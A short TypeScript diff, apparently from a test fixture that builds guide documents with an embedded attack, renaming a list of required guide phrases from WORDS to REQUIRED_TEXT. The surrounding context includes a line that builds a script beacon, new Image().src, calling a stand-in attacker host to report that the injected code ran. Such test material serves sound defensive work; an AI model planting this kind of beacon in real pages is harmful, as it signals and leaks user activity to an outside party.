@@ -22,7 +22,7 @@ export const attackerRequests = (requests: readonly string[]): string[] =>
 const FIRST = 'These are the first words of the guide, and they have to be there.';
 const LAST = 'These are the last words of the guide, and they have to be there too.';
 /** What of the guide around an attack has to reach the reader. */
-export const WORDS = [FIRST, 'Open Settings', 'Look at the bar', 'Press both buttons', LAST];
+export const REQUIRED_TEXT = [FIRST, 'Open Settings', 'Look at the bar', 'Press both buttons', LAST];
 
 function guide(name: string, head: string, attack: string): string {
   const run = `new Image().src=\`https://${ATTACKER}/ran/${name}\``;
